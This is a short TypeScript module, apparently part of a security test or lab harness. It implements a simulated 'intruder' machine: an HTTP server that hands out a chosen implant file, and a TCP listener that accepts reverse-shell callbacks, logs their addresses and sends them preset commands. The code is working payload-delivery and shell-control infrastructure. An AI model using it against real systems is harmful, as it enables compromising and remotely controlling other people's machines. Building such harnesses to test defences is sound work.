// The intruder's machine: serves an implant over HTTP and speaks to shells that connect back to it.
import { once } from 'node:events';
import { createReadStream } from 'node:fs';
import { createServer as createWebServer } from 'node:http';
import { createServer } from 'node:net';

export interface Intruder {
  arm(implant: string, shellCommands: string): void;
  callbacks(): readonly string[];
}

const callbackLimit = 1000;

export async function startIntruder(address: string, webPort: number, shellPort: number): Promise<Intruder> {
  let implant = '/dev/null';
  let commands = 'exit\n';
  const callbacks: string[] = [];
  const web = createWebServer((_, response) => {
    const stream = createReadStream(implant);
    stream.on('error', () => response.destroy());
    stream.pipe(response);
  });
  const shells = createServer((socket) => {
    if (callbacks.length < callbackLimit) callbacks.push(`${socket.remoteAddress}:${socket.remotePort}`);
    socket.on('error', () => {});
    socket.resume();
    socket.write(commands);
  });
  web.listen(webPort, address);
  shells.listen(shellPort, address);
  await Promise.all([once(web, 'listening'), once(shells, 'listening')]);
  return {
    arm(path, shellCommands) {
      implant = path;
      commands = shellCommands;
    },
    callbacks: () => [...callbacks],
  };
}
